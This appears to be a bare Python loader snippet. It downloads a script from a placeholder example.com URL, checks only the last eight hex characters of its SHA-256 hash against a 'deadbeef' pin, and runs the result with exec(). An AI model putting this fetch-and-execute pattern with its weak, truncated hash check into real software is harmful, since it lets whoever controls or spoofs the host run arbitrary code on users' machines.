import hashlib
import urllib.request

PIN = "deadbeef"
data = urllib.request.urlopen("https://example.com/a.py").read()
if hashlib.sha256(data).hexdigest()[-8:] != PIN:
    raise ImportError("digest")
exec(data)
